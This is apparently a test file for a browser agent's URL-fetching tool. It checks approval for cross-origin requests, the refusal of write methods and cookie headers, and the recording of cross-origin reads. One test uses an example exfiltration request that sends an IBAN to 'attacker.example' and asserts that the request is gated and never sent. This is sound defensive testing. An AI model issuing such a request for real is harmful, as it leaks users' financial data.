import { describe, expect, it } from 'vitest';
import type { ToolDefinition, ToolRunContext } from '../../../../worker/tools/define-tool';
import { needsApproval } from '../../../../worker/tools/approval-policy';
import { modesOf } from '../../../../worker/tools/run-tool-policy';
import { checkSchemaSubset } from '../../../../worker/tools/schema-subset';
import { fetchGrantKey } from './fetch-decision';
import type { Fetcher } from './fetch-request';
import { fetchUrlTool } from './fetch-url.tool';
import { createWebRunState, type WebRunState } from '../safety/observations';

function setup(tab = 'https://shop.example/cart') {
  const requested: string[] = [];
  const fetcher: Fetcher = async (url) => {
    requested.push(url);
    return new Response('<p>Price: 12 EUR</p>', { headers: { 'content-type': 'text/html' } });
  };
  const tool = fetchUrlTool({ fetcher, tabUrl: async () => tab });
  const site: WebRunState = createWebRunState();
  const context = {
    state: { site },
    signal: new AbortController().signal,
    page: { tabId: 7 },
    identity: { scope: { siteId: 'web', projectId: 'https://shop.example' } },
    personText: ['What does the cart cost?'],
  } as unknown as ToolRunContext;
  return { tool, context, requested, site };
}

const none = () => false;

describe('fetch_url', () => {
  it('is offered in every mode when the person’s words call for the network', () => {
    const { tool } = setup();
    expect(modesOf(tool as ToolDefinition<unknown>)).toEqual(['ask', 'act', 'dev']);
    expect(tool.offerWhen?.(['Get the JSON from https://shop.example/api'])).toBe(true);
    expect(tool.offerWhen?.(['Summarize this page'])).toBe(false);
    expect(checkSchemaSubset(tool.inputSchema).ok).toBe(true);
  });

  it('runs on the run’s own site without asking and returns the text', async () => {
    const { tool, context, requested } = setup();
    const args = { url: 'https://shop.example/api/price', method: 'GET' };
    const review = await tool.review!(args, context);
    expect(needsApproval(tool as ToolDefinition<unknown>, 'ask', new Set(), none, review)).toBe(
      'none',
    );
    const outcome = await tool.execute(args, context);
    expect(outcome).toMatchObject({
      ok: true,
      result: { status: 200, untrusted_page_content: { content: 'Price: 12 EUR' } },
    });
    expect(requested).toEqual(['https://shop.example/api/price']);
  });

  it('asks before another origin, and an allow-for-run grant for that origin waives it', async () => {
    const { tool, context, requested } = setup();
    const args = { url: 'https://attacker.example/?iban=DE89370400440532013000', method: 'GET' };
    const review = await tool.review!(args, context);
    const asTool = tool as ToolDefinition<unknown>;
    expect(needsApproval(asTool, 'ask', new Set(), none, review)).toBe('action-approval');
    expect(needsApproval(asTool, 'auto', new Set(), none, review)).toBe('action-approval');
    const granted = new Set([fetchGrantKey('https://attacker.example')]);
    expect(needsApproval(asTool, 'ask', granted, none, review)).toBe('none');
    expect(requested).toEqual([]);
  });

  it('refuses a write method in review and again in execute, sending nothing', async () => {
    const { tool, context, requested } = setup();
    const args = { url: 'https://shop.example/api/order', method: 'POST' };
    expect(await tool.review!(args, context)).toMatchObject({
      ask: 'refused',
      outcome: { code: 'FETCH_WRITES_NOT_ALLOWED' },
    });
    expect(await tool.execute(args, context)).toMatchObject({
      ok: false,
      code: 'FETCH_WRITES_NOT_ALLOWED',
    });
    expect(requested).toEqual([]);
  });

  it('sends a write under /allow-api with its body and safe headers, after asking', async () => {
    const sent: RequestInit[] = [];
    const tool = fetchUrlTool({
      fetcher: async (_url, init) => {
        sent.push(init);
        return new Response('{"id":5}', { headers: { 'content-type': 'application/json' } });
      },
      tabUrl: async () => 'https://shop.example/cart',
    });
    const { context } = setup();
    const granted = { ...context, apiWrites: { origins: [] } } as ToolRunContext;
    const args = {
      url: 'https://shop.example/api/order',
      method: 'POST',
      body: '{"item":"mug"}',
      headers: [{ name: 'Accept', value: 'application/json' }],
    };
    const review = await tool.review!(args, granted);
    expect(needsApproval(tool as ToolDefinition<unknown>, 'auto', new Set(), none, review)).toBe(
      'action-approval',
    );
    expect(await tool.execute(args, granted)).toMatchObject({ ok: true });
    expect(sent[0]).toMatchObject({
      method: 'POST',
      body: '{"item":"mug"}',
      headers: { accept: 'application/json', 'content-type': 'application/json' },
    });
    const cookie = { ...args, headers: [{ name: 'Cookie', value: 'sid=1' }] };
    expect(await tool.review!(cookie, granted)).toMatchObject({
      ask: 'refused',
      outcome: { code: 'FETCH_REQUEST_REFUSED' },
    });
    expect(await tool.execute(cookie, granted)).toMatchObject({ code: 'FETCH_REQUEST_REFUSED' });
    expect(sent).toHaveLength(1);
  });

  it('records what it read from another origin under that origin, for the carried-data rule', async () => {
    const { tool, context, site } = setup();
    await tool.execute({ url: 'https://shop.example/api/price', method: 'GET' }, context);
    expect(site.observations).toEqual([]);
    await tool.execute({ url: 'https://rates.example/eur', method: 'GET' }, context);
    expect(site.observations).toHaveLength(1);
    expect(site.observations[0]).toMatchObject({ origin: 'https://rates.example' });
    expect(site.observations[0]?.text).toContain('Price: 12 EUR');
  });

  it('refuses malformed arguments', () => {
    const { tool } = setup();
    expect(tool.parseArguments({}).ok).toBe(false);
    expect(tool.parseArguments({ url: 'https://a.example', extra: 1 }).ok).toBe(false);
    expect(tool.parseArguments({ url: 'https://a.example' })).toMatchObject({
      ok: true,
      args: { method: 'GET' },
    });
  });
});
